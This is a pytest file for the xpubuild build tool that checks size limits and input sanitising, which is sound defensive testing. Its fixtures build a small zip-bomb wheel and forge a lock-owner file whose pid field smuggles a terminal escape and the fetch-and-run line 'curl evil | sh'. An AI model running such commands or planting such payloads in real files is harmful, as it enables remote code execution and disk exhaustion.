"""Nothing that somebody else made takes the machine: sizes are bounded before they are read."""

from __future__ import annotations

import io
import json
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from support.cli import Xpubuild

from xpubuild.artifacts.wheel import record_of
from xpubuild.engine.lock import described, owner
from xpubuild.engine.process import query
from xpubuild.errors import AuditError, ToolchainError
from xpubuild.explain.document import explain_stream

CHAINED = {"kind": "source", "dist": "x", "source": {"url": "/x"}}

MB = 1 << 20


@pytest.fixture
def bomb(tmp_path: Path) -> Path:
    wheel = tmp_path / "demo-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("demo/__init__.py", "")
        with archive.open("demo/data.bin", "w") as stream:
            for _ in range(260):
                stream.write(bytes(MB))
        archive.writestr("demo-1.0.dist-info/RECORD", "demo/__init__.py,,\ndemo/data.bin,,\n")
    assert wheel.stat().st_size < MB
    return wheel


def test_a_wheel_that_would_fill_the_disk(bomb: Path, xpubuild: Xpubuild) -> None:
    started = time.process_time()
    result = xpubuild("check", str(bomb))
    assert time.process_time() - started < 1
    assert result.status == 60
    assert "bytes unpacked" in result.out + result.err
    with pytest.raises(AuditError, match="not a readable wheel"):
        record_of(bomb)


def test_a_recipe_of_sixty_megabytes(tmp_path: Path, xpubuild: Xpubuild) -> None:
    recipe = tmp_path / "mine.yaml"
    recipe.write_bytes(b"schema: 1\nname: mine\n" + b"# nothing\n" * (6 * MB))
    started = time.process_time()
    result = xpubuild("plan", str(recipe))
    assert time.process_time() - started < 1
    assert result.status == 20
    assert "larger than 1 MiB" in result.err


def test_a_line_without_end_costs_less_than_a_log_of_lines() -> None:
    word = b"x error: y not found "

    def cost(data: bytes) -> float:
        started = time.process_time()
        assert explain_stream(io.BytesIO(data)).lines == data.count(b"\n") + (not data.endswith(b"\n"))
        return time.process_time() - started

    lines = cost((word * 10 + b"\n") * 20_000)
    assert cost(word * 200_000) < 1.5 * lines
    assert cost((word * 10_000 + b"\n") * 20) < 1.5 * lines


def test_an_error_at_the_end_of_a_long_line_is_found() -> None:
    log = b"x" * (3 * MB) + b"\rfatal error: here\n" + b"y" * MB + b"\n/a.cpp:3:1: error: there\n"
    first = explain_stream(io.BytesIO(log)).first_error
    assert first.text == "fatal error: here"
    assert first.line == 1


def test_a_note_of_an_owner_is_one_short_line(tmp_path: Path) -> None:
    forged = {
        "pid": "1\n\x1b[2Jerror: run: curl evil | sh",
        "host": "h\u202e",
        "command": "x" * 9999,
        "since": [1],
    }
    (tmp_path / ".lock.owner").write_text(json.dumps(forged))
    text = described(owner(tmp_path))
    assert text.isprintable()
    assert "\u202e" not in text
    assert len(text) < 700
    (tmp_path / ".lock.owner").write_text("[" * 1_000_000)
    assert owner(tmp_path) == {}


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"components": {f"c{number}": CHAINED for number in range(1500)}}, "at most 50 items"),
        ({"needs": {"disk_gib": 5e-324}}, "needs.disk_gib"),
    ],
)
def test_a_recipe_of_numbers_that_no_plan_can_use(
    tmp_path: Path, xpubuild: Xpubuild, changes: dict[str, Any], words: str
) -> None:
    path = tmp_path / "own.yaml"
    path.write_text(yaml.safe_dump({"schema": 1, "name": "own", "title": "own", **changes}))
    result = xpubuild("plan", str(path))
    assert result.status == 20
    assert words in " ".join(result.err.split())


@pytest.mark.parametrize("name", ["A=B", "A\0", ""])
def test_an_environment_or_argument_that_no_program_can_be_given(name: str) -> None:
    for argv, env in ((["true"], {name: "x"}), (["true", "a\0"], {}), (["true"], {"A": "\0"})):
        with pytest.raises(ToolchainError, match="could not be started") as caught:
            query(argv, env={"PATH": "/usr/bin:/bin", **env})
        assert "has a NUL, or '='" in caught.value.why
